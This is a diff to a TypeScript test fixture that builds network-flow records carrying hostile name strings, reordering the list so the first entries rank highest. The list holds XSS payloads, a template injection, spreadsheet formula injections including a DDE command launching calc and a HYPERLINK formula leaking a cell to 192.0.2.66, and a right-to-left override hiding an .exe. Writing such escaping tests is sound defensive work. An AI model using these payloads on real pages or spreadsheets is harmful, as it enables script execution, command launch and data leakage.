@@ -10,22 +10,22 @@ interface Element {
   length: number;
 }
 
-/** Names that want to be markup, script, a formula, or to turn the page around. */
+/** Names that want to be markup, script, a formula, or to turn the page around; the first rank highest. */
 export const HOSTILE = {
   script: "<script>window.pwned=1</script>",
   image: '"><img src=x onerror="window.pwned=2">',
+  override: "pod-\u202egnp.exe\u202c\u2066",
+  long: `${"very-long-".repeat(25)}end`,
+  combining: `z${"\u0334\u0348\u0352".repeat(40)}`,
+  formula: '=HYPERLINK("http://192.0.2.66/?"&A1;"click")',
+  control: "a\u0007b\u001b[31mc",
+  quote: `a"b'c\\d,e;f\ng`,
   svg: "<svg/onload=window.pwned=3>",
   link: "javascript:window.pwned=4",
   template: "${window.pwned=5}{{constructor.constructor('window.pwned=6')()}}",
-  formula: '=HYPERLINK("http://192.0.2.66/?"&A1;"click")',
   command: "+cmd|' /C calc'!A0",
   at: "@SUM(1+1)*cmd",
   tab: "\t=1+1",
-  override: "pod-\u202egnp.exe\u202c\u2066",
-  control: "a\u0007b\u001b[31mc",
-  combining: `z${"\u0334\u0348\u0352".repeat(40)}`,
-  quote: `a"b'c\\d,e;f\ng`,
-  long: `${"very-long-".repeat(25)}end`,
 } as const;
 
 const FIELDS: Element[] = [
@@ -67,7 +67,7 @@ function record(name: string, index: number): Buffer {
   const names = [name, name, name, name, name, name, name, name].slice(0, FIELDS.filter((f) => f.length === 65535).length);
   return Buffer.concat([
     Buffer.from([10, 9, 0, index]), Buffer.from([10, 9, 1, index]), uint(40_000 + index, 2), uint(443, 2), uint(6, 1),
-    uint(1_000_000 * (index + 1), 8), uint(1000, 8), uint(index + 1, 4), ...names.map(variable),
+    uint(1_000_000 * (100 - index), 8), uint(1000, 8), uint(index + 1, 4), ...names.map(variable),
   ]);
 }
 
